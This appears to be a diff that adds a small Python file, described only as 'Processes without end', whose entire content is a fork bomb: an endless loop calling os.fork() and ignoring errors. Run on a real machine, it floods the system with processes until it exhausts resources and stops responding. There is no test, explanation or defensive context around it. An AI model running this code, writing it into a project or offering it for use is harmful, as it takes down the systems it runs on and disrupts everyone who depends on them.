@@ -1,0 +1,8 @@
+"""Processes without end."""
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
